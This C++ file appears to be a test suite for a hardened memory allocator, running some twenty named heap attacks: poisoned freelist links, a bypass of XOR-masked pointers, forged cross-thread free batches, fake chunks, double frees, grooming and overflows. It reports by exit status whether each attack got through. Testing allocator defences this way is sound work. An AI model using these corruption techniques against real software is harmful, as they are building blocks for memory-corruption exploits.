/* Attacks on the allocator, each with one write through a dangling pointer, or one wrong free:
 *
 *     attacks list          their names
 *     attacks NAME          runs one
 *
 * The attacker wants an allocation at `target`, or two live blocks that overlap. Exit status: 7, the attack succeeded; 0, it
 * had no effect. Anything else: the allocator stopped it. */
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <pthread.h>
#include <semaphore.h>
#include <set>
#include <vector>

using byte = unsigned char;

enum { SUCCEEDED = 7, SIZE = 48, MANY = 20000 };

/* What the attacker wants to own: its words look like free blocks that lead to each other. */
alignas(64) static uintptr_t target[64];

static byte *hidden(void *p) {
    byte *volatile q = static_cast<byte *>(p);
    return q;
}

static byte *block() { return hidden(memset(hidden(malloc(SIZE)), 0x55, SIZE)); }

static bool is_target(const void *p) {
    const uintptr_t at = reinterpret_cast<uintptr_t>(p), start = reinterpret_cast<uintptr_t>(target);
    return at >= start && at < start + sizeof target;
}

static void write_word(byte *p, size_t i, uintptr_t word) { memcpy(p + i * sizeof word, &word, sizeof word); }

static uintptr_t target_word() { return reinterpret_cast<uintptr_t>(target) + 64; }

/* The program goes on. Does it get the target, or one address twice? */
static void go_on() {
    static byte *all[MANY]; /* Not in the heap, where it would take the memory that the attack is about. */
    for (byte *&p : all) {
        p = block();
        if (is_target(p))
            exit(SUCCEEDED);
    }
    std::set<byte *> apart;
    for (byte *p : all)
        if (!apart.insert(p).second)
            exit(SUCCEEDED);
    for (byte *p : all)
        free(p);
}

static std::vector<byte *> blocks(size_t n) {
    std::vector<byte *> all(n);
    for (byte *&p : all)
        p = block();
    return all;
}

/* The link of the block that was freed last. */
static void list_first() {
    std::vector<byte *> all = blocks(100);
    for (byte *p : all)
        free(p);
    write_word(all.back(), 0, target_word());
    go_on();
}

/* The link of a block in the middle of the list. */
static void list_middle() {
    std::vector<byte *> all = blocks(100);
    for (byte *p : all)
        free(p);
    write_word(all[50], 0, target_word());
    go_on();
}

/* A link to a live block: an allocation overlaps it. */
static void list_to_live() {
    std::vector<byte *> all = blocks(100);
    byte *live = all[10];
    for (byte *p : all)
        if (p != live)
            free(p);
    write_word(all[50], 0, reinterpret_cast<uintptr_t>(live));
    for (int i = 0; i < MANY; i++)
        if (malloc(SIZE) == live)
            exit(SUCCEEDED);
}

/* The link of a freed block is turned by the distance to a block of another page, which a thread that ended has given
 * up: no secret is needed for that where links are only XORed. */
static void *uses(void *all) {
    std::vector<byte *> &made = *static_cast<std::vector<byte *> *>(all);
    made = blocks(3000);
    for (byte *p : made)
        free(p);
    return nullptr;
}
static void list_turned() {
    std::vector<byte *> all = blocks(3000), given;
    pthread_t thread;
    pthread_create(&thread, nullptr, uses, &given);
    pthread_join(thread, nullptr);
    for (size_t i = 0; i < all.size(); i += 2)
        free(all[i]);
    byte *const victim = all[all.size() / 4 * 2];
    const uintptr_t at = reinterpret_cast<uintptr_t>(victim);
    for (byte *p : given) {
        const uintptr_t other = reinterpret_cast<uintptr_t>(p);
        if ((at ^ other) >> 21 || (at ^ other) >> 16 == 0)
            continue;
        uintptr_t word;
        memcpy(&word, victim, sizeof word);
        write_word(victim, 0, word ^ ((at ^ other) >> 16 << 16));
        return go_on();
    }
    exit(8); /* No such block. */
}

/* Another thread frees blocks of this one, which changes them before they come back. */
static sem_t freed, changed;
static void *frees(void *all) {
    for (byte *p : *static_cast<std::vector<byte *> *>(all))
        free(p);
    sem_post(&freed);
    sem_wait(&changed);
    return nullptr;
}
static void remote(size_t word, uintptr_t value) {
    std::vector<byte *> all = blocks(100);
    sem_init(&freed, 0, 0);
    sem_init(&changed, 0, 0);
    pthread_t thread;
    pthread_create(&thread, nullptr, frees, &all);
    sem_wait(&freed);
    for (byte *p : all)
        write_word(p, word, value);
    sem_post(&changed);
    pthread_join(thread, nullptr);
    go_on();
}
static void remote_list() { remote(0, target_word()); }
static void remote_chain() { remote(1, target_word() | uintptr_t(1) << 48); }
static void remote_length() { remote(1, uintptr_t(0x7fff) << 48); }
static void remote_page() { remote(1, (target_word() + 1) | uintptr_t(1) << 48); }

/* Another thread frees the first `count` blocks of `all`, of `size` bytes, and ends. Before they come back to this
 * thread, `forge` changes words of their batch, whose first block it gets, so that live blocks become free. Does the
 * program get one of them? */
static void *frees_first(void *all) {
    for (byte *p : *static_cast<std::vector<byte *> *>(all))
        free(p);
    return nullptr;
}
template <typename Forge> static void forged(const std::vector<byte *> &all, size_t size, size_t count, Forge forge) {
    std::vector<byte *> first(all.begin(), all.begin() + static_cast<long>(count));
    pthread_t thread;
    pthread_create(&thread, nullptr, frees_first, &first);
    pthread_join(thread, nullptr);
    for (byte *p : first) {
        uintptr_t word;
        memcpy(&word, p + sizeof word, sizeof word);
        if (word >> 48 && word >> 48 <= count) /* It says how many blocks the batch has. */
            forge(p, word);
    }
    const std::set<byte *> live(all.begin() + static_cast<long>(count), all.end());
    for (int i = 0; i < MANY * SIZE / static_cast<int>(size); i++)
        if (live.count(hidden(malloc(size))))
            exit(SUCCEEDED);
}
/* All blocks of the page seem to be in the batch, so that its memory is used anew. */
static void remote_length_exact() {
    std::map<uintptr_t, std::vector<byte *>> pages;
    for (byte *p : blocks(5000))
        pages[reinterpret_cast<uintptr_t>(p) >> 16].push_back(p);
    std::vector<byte *> all;
    for (auto &page : pages)
        if (page.second.size() > all.size())
            all = page.second;
    forged(all, SIZE, 100, [&](byte *p, uintptr_t word) {
        write_word(p, 1, word + (uintptr_t(all.size() - 100) << 48));
    });
}
/* The next batch is a live block, whose words the attacker wrote as those of a batch of one block. */
static void chain_to_live(size_t size, size_t count) {
    std::vector<byte *> all(3 * count);
    for (byte *&p : all)
        p = hidden(memset(hidden(malloc(size)), 0x55, size));
    byte *live = all[count];
    write_word(live, 0, reinterpret_cast<uintptr_t>(live));
    write_word(live, 1, uintptr_t(1) << 48);
    forged(all, size, count, [&](byte *p, uintptr_t word) {
        write_word(p, 1, word >> 48 << 48 | reinterpret_cast<uintptr_t>(live));
    });
}
static void remote_chain_to_live() { chain_to_live(SIZE, 500); }
static void remote_chain_to_long() { chain_to_live(5000, 8); }

/* The list of the batch begins with a live block. */
static void remote_list_to_live() {
    std::vector<byte *> all = blocks(1500);
    write_word(all[500], 0, 0);
    forged(all, SIZE, 500, [&](byte *p, uintptr_t) { write_word(p, 0, reinterpret_cast<uintptr_t>(all[500])); });
}

/* A thread ends, and leaves pages with few used blocks. Any thread may take these pages over. */
static void *leaves(void *all) {
    std::vector<byte *> &made = *static_cast<std::vector<byte *> *>(all);
    made = blocks(3000);
    for (size_t i = 0; i < made.size(); i++)
        if (i % 100)
            free(made[i]);
    return nullptr;
}
static void parked() {
    std::vector<byte *> all;
    pthread_t thread;
    pthread_create(&thread, nullptr, leaves, &all);
    pthread_join(thread, nullptr);
    for (size_t i = 0; i < all.size(); i++)
        if (i % 100)
            write_word(all[i], 0, target_word());
    go_on();
}

/* A block that the attacker made up, in its own variable. */
static void made_up_block() {
    target[8] = SIZE;
    target[9] = SIZE | 1;
    free(hidden(target + 10));
    go_on();
}
/* … and in the middle of a live block. */
static void made_up_inside() {
    byte *p = hidden(calloc(1, 1000));
    write_word(p, 6, SIZE | 1);
    free(p + 16 * 5);
    for (int i = 0; i < MANY; i++) {
        byte *q = hidden(malloc(1000));
        if (q != p && q < p + 1000 && p < q + 1000)
            exit(SUCCEEDED);
    }
}
static void twice() {
    byte *p = block();
    free(p);
    free(p);
    go_on();
}
static void twice_around() {
    byte *p = block(), *q = block();
    free(p);
    free(q);
    free(p);
    go_on();
}
static void *frees_one(void *p) {
    free(p);
    return nullptr;
}
static void twice_by_two_threads() {
    byte *p = block();
    pthread_t thread;
    pthread_create(&thread, nullptr, frees_one, p);
    pthread_join(thread, nullptr);
    free(p);
    go_on();
}
/* Heap grooming: the attacker's next allocation gets the victim's freed block. */
static void next_gets_freed() {
    std::vector<byte *> all = blocks(30);
    byte *p = all[15];
    free(p);
    for (int i = 0; i < 16; i++)
        if (malloc(SIZE) == p)
            exit(SUCCEEDED);
}
/* A write over the next blocks, or in front of one. */
static void to_the_neighbour(long by) {
    std::vector<byte *> all = blocks(10);
    memset(all[3] + (by < 0 ? by : SIZE), 0x41, static_cast<size_t>(by < 0 ? -by : by));
    for (byte *p : all)
        free(p);
    go_on();
}
static void over_neighbour() { to_the_neighbour(3 * SIZE); }
static void under_neighbour() { to_the_neighbour(-2 * SIZE); }

#define ATTACK(name) {#name, name}
static const struct {
    const char *name;
    void (*run)();
} attacks[] = {
    ATTACK(list_first), ATTACK(list_middle), ATTACK(list_to_live), ATTACK(list_turned), ATTACK(remote_list), ATTACK(remote_chain),
    ATTACK(remote_length), ATTACK(remote_length_exact), ATTACK(remote_list_to_live), ATTACK(remote_chain_to_live),
    ATTACK(remote_chain_to_long), ATTACK(remote_page), ATTACK(parked), ATTACK(made_up_block), ATTACK(made_up_inside),
    ATTACK(twice), ATTACK(twice_around), ATTACK(twice_by_two_threads), ATTACK(next_gets_freed), ATTACK(over_neighbour),
    ATTACK(under_neighbour),
};

int main(int count, char **arguments) {
    for (uintptr_t &word : target)
        word = target_word();
    for (const auto &each : attacks) {
        if (count == 2 && !strcmp(arguments[1], "list"))
            puts(each.name);
        else if (count == 2 && !strcmp(arguments[1], each.name))
            each.run();
    }
    return 0;
}
